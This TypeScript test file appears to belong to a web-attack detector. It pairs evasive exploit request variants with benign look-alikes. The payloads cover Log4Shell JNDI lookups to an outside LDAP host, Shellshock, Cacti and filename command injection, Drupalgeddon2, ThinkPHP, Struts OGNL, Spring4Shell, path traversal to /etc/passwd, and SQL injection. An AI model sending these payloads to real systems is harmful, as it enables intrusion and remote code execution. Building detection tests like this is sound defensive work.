import { type Proof, agent, get, post, proof } from '../sketch.ts'

const form = { contentType: 'application/x-www-form-urlencoded' }

/** The same exploit in another shape: other parameters, their order, brackets, other signs and wrappers. */
export const shapes: readonly Proof[] = [
  proof(
    'log4shell',
    agent('${${upper:jnd%C4%B1}:ldap://198.51.100.7/a}'),
    agent('${${upper:jn%C4%B1}:ldap://198.51.100.7/a}'),
  ),
  proof('log4shell', agent('${jndi:ldap:${sys:file.separator}x}'), agent('${jndi}:ldap')),
  proof(
    'log4shell',
    get('/', { headers: { 'X-Api-Version': 'a\r\n %24%7Bjndi:ldap://198.51.100.7/a}' } }),
    get('/', { headers: { 'X-Api-Version': 'a\r\n %24%7Bname}' } }),
  ),
  proof(
    'shellshock',
    get('/', { headers: { 'X-Y': '\r\n\t%28%29 { x;}; id' } }),
    get('/', { headers: { 'X-Y': '\r\n\t%28%29 { x' } }),
  ),
  proof(
    'teamcity-auth-bypass',
    get('/hax?x=1&jsp=/app/rest/users;x.jsp'),
    get('/hax?x=1&jsp=/app/index;x.html'),
  ),
  proof('teamcity-auth-bypass', get('/hax?jsp=/admin/x.html%3b.jsp'), get('/hax?jsp=/x.jsp')),
  proof(
    'cacti-remote-agent',
    get('/remote_agent.php?action=polldata&poller_id=`id`'),
    get('/remote_agent.php?action=polldata&poller_id=7'),
  ),
  proof(
    'cacti-remote-agent',
    get('/remote_agent.php?poller_id=1%7Cid&host_id=1&action=polldata'),
    get('/remote_agent.php?poller_id=1&host_id=1&action=polldata'),
  ),
  proof(
    'cacti-remote-agent',
    get('/remote_agent.php?host_id=1&poller_id=1%0aid&action=polldata'),
    get('/remote_agent.php?host_id=1'),
  ),
  proof(
    'drupalgeddon2',
    post('/user/password?name[%23post_render][]=passthru', 'form_id=user_pass', form),
    post('/user/password?name[post]=x', 'form_id=user_pass', form),
  ),
  proof(
    'drupalgeddon2',
    post('/user/register/?ajax_form=1&element_parents=account/mail/%23value', 'x', form),
    post('/user/register/?ajax_form=1&element_parents=user_picture/widget/0', 'x', form),
  ),
  proof(
    'thinkphp-rce',
    get('/?s=index/%5Cthink%5Cview%5Cdriver%5CPhp/display&content=x'),
    get('/?s=index/view/php/display'),
  ),
  proof(
    'thinkphp-rce',
    get(String.raw`/?s=index/\think\template\driver\file/write&cacheFile=x.php`),
    get('/?s=index/think/template'),
  ),
  proof(
    'thinkphp-rce',
    get('/?s=index/%5cthink%5cRequest/input&filter=phpinfo'),
    get('/?s=thinking&filter=x'),
  ),
  proof('struts-parameter-ognl', get('/x.action?redirect:%24%7B%23a%3D1%7D'), get('/x.action?redirect:/y')),
  proof('struts-parameter-ognl', get('/x?redirectAction:%25%7B%23a%7D'), get('/x?redirectAction:y')),
  proof('struts-parameter-ognl', get('/x?action:%25{#a}'), get('/x?action:y')),
  proof(
    'spring4shell',
    post('/', 'class[module][classLoader][resources]=1', form),
    post('/', 'class[module]=1', form),
  ),
  proof(
    'spring4shell',
    post('/', "class['module']['classLoader'].resources=1", form),
    post('/', "class['module']=1", form),
  ),
  proof('spring4shell', get('/?class.module%5BclassLoader%5D.x=1'), get('/?class.modules%5Bloader%5D.x=1')),
  proof(
    'sharepoint-toolshell',
    post('/_layouts/16/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx', 'x'),
    post('/_layouts/16/start.aspx?DisplayMode=Edit', 'x'),
  ),
  proof(
    'sharepoint-toolshell',
    post('/sites/a/_layouts/16/ToolPane.aspx/?x=1&DisplayMode=Edit', 'x'),
    post('/sites/a/_layouts/16/ToolPane.aspx/?x=1', 'x'),
  ),
  proof('path-traversal', get('/x?f=....//....//etc/passwd'), get('/x?f=....//etc')),
  proof('path-traversal', get('/x?f=..././..././etc/passwd'), get('/x?f=.../etc')),
  proof(
    'path-traversal',
    get('/x?f=php://filter/convert.base64-encode/resource=index'),
    get('/x?q=php%3a%2f%2ffilter+tutorial'),
  ),
  proof('path-traversal', get('/assets/.%2e/.%2e/etc/hosts'), get('/assets/.%2e/hosts')),
  proof('path-traversal', get('/x?f=..%5c..%5cwindows%5cwin.ini'), get('/x?f=windows%5cwin.ini')),
  proof('sql-injection-attempt', get('/?id=1%20union(select%201)'), get('/?q=union%20(selection)')),
  proof('sql-injection-attempt', get("/?id=x'+union+select+a,b+from+c"), get('/?q=union+select+a')),
  proof('sql-injection-attempt', post('/', 'id=9+union+all+select+null,null', form), post('/', 'id=9', form)),
  proof(
    'cve-2024-1061',
    get("/?rest_route=/h5vp/v1/view/1&id=1'+AND+(SELECT+1)"),
    get('/?rest_route=/h5vp/v1/view/1&id=1+and+selected'),
  ),
  proof(
    'cve-2025-47188',
    [
      post('/cgi-bin/webconfig?page=upload_ringtone', 'filename="a;id;.wav"'),
      post('/cgi-bin/webconfig?page=upload_ringtone', 'filename="a|id|.wav"'),
    ],
    post('/cgi-bin/webconfig?page=upload_ringtone', 'filename="a id.wav"'),
  ),
]
